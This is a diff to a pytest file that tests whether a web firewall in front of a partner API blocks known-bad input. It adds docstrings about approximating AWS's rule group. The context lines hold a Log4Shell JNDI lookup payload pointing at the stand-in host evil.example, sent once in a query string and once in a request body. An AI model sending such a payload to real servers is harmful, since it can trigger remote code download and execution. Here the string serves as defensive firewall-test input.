@@ -96,6 +96,7 @@ def test_an_address_above_the_firewalls_rate_is_blocked_and_then_served_again(
 
 @pytest.mark.embedded
 def test_what_the_firewall_blocked_is_shown(partner: PartnerApi, deployment: Deployment) -> None:
+    """Here our approximation of AWS's group blocks; that AWS's own does, only AWS shows."""
     before = time.time()
     partner.call("GET", "/items?cursor=%24%7Bjndi:ldap://evil.example/a%7D")
 
@@ -128,6 +129,7 @@ def test_items_are_data_whatever_they_look_like(partner: PartnerApi, text: str) 
 
 
 def test_known_bad_input_is_blocked_in_a_body_too(partner: PartnerApi) -> None:
+    """Here our approximation of AWS's group blocks; that AWS's own does, only AWS shows."""
     answer = partner.call("POST", "/items", item={"text": "${jndi:ldap://evil.example/a}"})
 
     assert (answer.status, answer.error["code"]) == (403, "request_blocked")
